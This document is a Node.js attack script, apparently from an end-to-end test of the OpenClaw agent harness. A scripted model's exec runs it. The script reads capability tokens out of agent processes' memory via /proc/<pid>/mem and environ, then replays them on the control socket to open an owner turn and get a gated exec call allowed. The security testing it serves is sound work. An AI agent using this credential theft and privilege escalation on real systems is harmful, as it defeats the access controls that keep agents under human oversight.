#!/usr/bin/env node
// Attack (a)+(c) of make e2e-openclaw, run by the scripted model's `exec`:
// read the run capability out of the OpenClaw processes' memory
// (/proc/<pid>/maps + /proc/<pid>/mem) and use it on the control socket
// from this process, which is not the run's creator.
//
//   node attack-steal.mjs --socket PATH --out FILE
//
// Prints one line, "steal: read=yes|no ... use: turns=<status> <reason> ...",
// and writes the details to --out as JSON. It never prints a capability.
//
// The OpenClaw processes are the exec's ancestors (the development layout:
// no sandbox); in OpenClaw's sandbox (the exec runs under another account
// through sshd) it looks for them in /proc instead. For each it tries
// /proc/<pid>/maps, /proc/<pid>/mem and /proc/<pid>/environ and reports what
// each open gave (the errno code, e.g. EACCES), and it tries the control
// socket itself without a capability ("socket=").
import { readFileSync, readdirSync, openSync, readSync, closeSync, writeFileSync } from "node:fs";
import { createHash } from "node:crypto";
import { request } from "node:http";
import { parseArgs } from "node:util";

const { values: opts } = parseArgs({ options: { socket: { type: "string" }, out: { type: "string" } }, strict: true });
const sock = /** @type {string} */ (opts.socket);

const CAP = /clawea-cap-v1\.[A-Za-z0-9_-]{43}(?![A-Za-z0-9_-])/g;
const RUN = /(?<![A-Za-z0-9_-])run_[A-Za-z0-9_-]{22}(?![A-Za-z0-9_-])/g;
const fp = (/** @type {string} */ s) => createHash("sha256").update(s).digest("base64url").slice(0, 8);

/** @param {number | string} pid */
const stat = (pid) => readFileSync(`/proc/${pid}/stat`, "utf8");
const ppidOf = (/** @type {number | string} */ pid) => Number(stat(pid).slice(stat(pid).lastIndexOf(")") + 2).split(" ")[1]);

/** The OpenClaw process at pid as {pid, comm, uid}, or null. */
function openclawProc(pid) {
  const comm = readFileSync(`/proc/${pid}/comm`, "utf8").trim();
  const cmd = readFileSync(`/proc/${pid}/cmdline`, "utf8").replace(/\0/g, " ");
  if (/process\/supervisor/.test(cmd)) return null; // exec's own spawner
  if (!comm.startsWith("openclaw") && !/openclaw(\.mjs)? agent\b/.test(cmd)) return null;
  const uid = Number(/^Uid:\s+(\d+)/m.exec(readFileSync(`/proc/${pid}/status`, "utf8"))?.[1] ?? -1);
  return { pid, comm, uid };
}

/**
 * The OpenClaw processes that run this exec: its ancestors named openclaw
 * (the agent process holding the plugin and its parent), nearest first; with
 * none (a sandboxed exec), every OpenClaw process /proc shows.
 */
function openclawPids() {
  const out = [];
  const mine = new Set([process.pid]);
  for (let pid = ppidOf(process.pid); pid > 1; pid = ppidOf(pid)) {
    mine.add(pid);
    try {
      const p = openclawProc(pid);
      if (p) out.push(p);
    } catch {
      break;
    }
  }
  if (out.length) return { found: "ancestors", procs: out };
  for (const d of readdirSync("/proc")) {
    if (!/^\d+$/.test(d) || mine.has(Number(d))) continue;
    try {
      const p = openclawProc(Number(d));
      if (p) out.push(p);
    } catch {
      // gone, or hidden
    }
  }
  return { found: "proc", procs: out };
}

/** What opening /proc/<pid>/<file> for reading gave: "ok" or the errno code. */
function tryOpen(pid, file) {
  try {
    closeSync(openSync(`/proc/${pid}/${file}`, "r"));
    return "ok";
  } catch (e) {
    return String(/** @type {any} */ (e).code || e);
  }
}

const needles = (/** @type {string} */ s) => [Buffer.from(s, "latin1"), Buffer.from(s, "utf16le")];
const CAP_N = needles("clawea-cap-v1.");
const RUN_N = needles("run_");

/** Every match of re at each needle hit in b (Latin-1 and UTF-16LE), into set. */
function hits(b, ns, len, re, set) {
  ns.forEach((n, i) => {
    const w = i === 0 ? 1 : 2;
    for (let at = b.indexOf(n); at !== -1; at = b.indexOf(n, at + 1)) {
      const s = b.subarray(Math.max(0, at - w), at + (len + 1) * w).toString(i === 0 ? "latin1" : "utf16le");
      for (const m of s.matchAll(re)) set.add(m[0]);
    }
  });
}

/**
 * Scans the readable, writable private mappings of pid for caps and run ids,
 * and its environment for caps; records what each /proc open gave.
 */
function scan(pid, caps, runs) {
  const res = { pid, bytes: 0, error: "", maps: tryOpen(pid, "maps"), mem: tryOpen(pid, "mem"), environ: tryOpen(pid, "environ") };
  if (res.environ === "ok") {
    try {
      hits(readFileSync(`/proc/${pid}/environ`), CAP_N, 57, CAP, caps);
    } catch (e) {
      res.environ = String(/** @type {any} */ (e).code || e);
    }
  }
  if (res.maps !== "ok" || res.mem !== "ok") return res;
  let fd;
  try {
    const maps = readFileSync(`/proc/${pid}/maps`, "utf8");
    fd = openSync(`/proc/${pid}/mem`, "r");
    for (const line of maps.split("\n")) {
      const m = /^([0-9a-f]+)-([0-9a-f]+) (rw.p)/.exec(line);
      if (!m || /\[(vvar|vsyscall|vdso)\]/.test(line)) continue;
      const start = parseInt(m[1], 16);
      const end = parseInt(m[2], 16);
      const CH = 16 << 20;
      for (let at = start; at < end; at += CH) {
        const n = Math.min(CH + 256, end - at); // overlap: a match across chunks
        const buf = Buffer.allocUnsafe(n);
        let got = 0;
        try {
          got = readSync(fd, buf, 0, n, at);
        } catch (e) {
          res.error ||= String(/** @type {any} */ (e).code || e);
          break;
        }
        res.bytes += got;
        const b = buf.subarray(0, got);
        hits(b, CAP_N, 57, CAP, caps);
        hits(b, RUN_N, 26, RUN, runs);
      }
    }
  } catch (e) {
    res.error ||= String(/** @type {any} */ (e).code || e);
  } finally {
    if (fd !== undefined) closeSync(fd);
  }
  return res;
}

/** One request on the control socket: {status, reason, body}. */
function call(method, path, cap, json) {
  const body = json === undefined ? undefined : Buffer.from(JSON.stringify(json));
  /** @type {Record<string, string>} */
  const headers = cap ? { authorization: `Bearer ${cap}` } : {};
  if (body) Object.assign(headers, { "content-type": "application/json", "content-length": String(body.length) });
  return new Promise((resolve) => {
    const req = request({ socketPath: sock, method, path, headers, timeout: 5000 }, (res) => {
      const chunks = [];
      res.on("data", (c) => chunks.push(c));
      res.on("end", () => {
        const text = Buffer.concat(chunks).toString("utf8");
        let j = {};
        try {
          j = JSON.parse(text);
        } catch {
          // not JSON
        }
        resolve({ status: res.statusCode, reason: j.reason || "", body: j });
      });
    });
    req.on("error", (e) => resolve({ status: 0, reason: String(/** @type {any} */ (e).code || e.message), body: {} }));
    req.on("timeout", () => req.destroy(new Error("timeout")));
    if (body) req.end(body);
    else req.end();
  });
}

const ptraceScope = (() => {
  try {
    return readFileSync("/proc/sys/kernel/yama/ptrace_scope", "utf8").trim();
  } catch {
    return "none";
  }
})();
const { found, procs } = openclawPids();
const caps = new Set();
const runs = new Set();
/** The bytes of pid's readable, writable private mappings. */
function rwBytes(pid) {
  let n = 0;
  try {
    for (const m of readFileSync(`/proc/${pid}/maps`, "utf8").matchAll(/^([0-9a-f]+)-([0-9a-f]+) rw.p/gm)) n += parseInt(m[2], 16) - parseInt(m[1], 16);
  } catch {
    // unreadable: scan() says why
  }
  return n;
}
// Smallest first, up to the first process that holds capabilities.
procs.sort((a, b) => rwBytes(a.pid) - rwBytes(b.pid));
const scanned = [];
for (const p of procs) {
  scanned.push({ ...p, ...scan(p.pid, caps, runs) });
  if (caps.size) break; // the process that holds the plugin's runs
}
// The all-A capability is the owner turn's forged probe, not a real one.
const realCaps = [...caps].filter((c) => !/^clawea-cap-v1\.A{43}$/.test(c));
const report = { uid: process.getuid?.(), pid: process.pid, ptrace_scope: ptraceScope, found, scanned, caps: realCaps.map(fp), runs: [...runs], use: [] };

// Use: find the (run, capability) pair the attester knows (anything but a
// plain 403), then act as the owner in that run: open an owner turn, verify
// it, get a gated tool allowed.
let pair = null;
for (const run of [...runs].slice(0, 20)) {
  for (const cap of realCaps.slice(0, 20)) {
    const r = await call("POST", `/v1/runs/${run}/turns`, cap, {
      channel: "cli", sender_id: "local", message_id: `attack-${process.pid}-${run}`, content_sha256_b64u: createHash("sha256").update("attack").digest("base64url"),
    });
    report.use.push({ req: "turns", run, cap: fp(cap), status: r.status, reason: r.reason });
    if (r.status !== 403 || r.reason) {
      pair = { run, cap, turn: r.body.turn_id };
      break;
    }
  }
  if (pair) break;
}
const opened = (/** @type {any} */ s) => ["maps", "mem", "environ"].filter((f) => s[f] !== "ok").map((f) => ` ${f}=${s[f]}`).join("");
let line = `steal: uid=${report.uid} ptrace_scope=${ptraceScope} found=${found} scanned=${scanned.map((s) => `${s.pid}(${s.comm} uid=${s.uid} ${Math.round(s.bytes / 1048576)}MB${opened(s)}${s.error ? " " + s.error : ""})`).join(",") || "none"} read=${realCaps.length ? "yes" : "no"} caps=${realCaps.length} runs=${runs.size}`;
if (pair) {
  const last = report.use[report.use.length - 1];
  line += ` use: turns=${last.status} ${last.reason || "-"}`;
  const turnId = typeof pair.turn === "string" ? pair.turn : "turn_unknown";
  const v = await call("POST", `/v1/runs/${pair.run}/verify`, pair.cap, { turn_id: turnId });
  report.use.push({ req: "verify", run: pair.run, status: v.status, reason: v.reason });
  const t = await call("POST", `/v1/runs/${pair.run}/tool-calls`, pair.cap, { turn_id: turnId, tool: "exec", params: { command: "echo stolen-capability-used" } });
  report.use.push({ req: "tool-calls", run: pair.run, status: t.status, reason: t.reason, allow: t.body.allow });
  line += ` verify=${v.status} ${v.reason || "-"} tool-calls=${t.status} ${t.reason || "-"} allow=${t.body.allow ?? "-"}`;
} else {
  line += ` use: no pair the attester knows (${report.use.length} tried)`;
}
// The socket itself, without a capability (the uid check's route).
const probe = await call("GET", "/v1/gate/policy", "");
report.socket = probe.status ? String(probe.status) : probe.reason;
line += ` socket=${report.socket}`;
report.line = line;
if (opts.out) writeFileSync(opts.out, JSON.stringify(report, null, 2));
console.log(line);
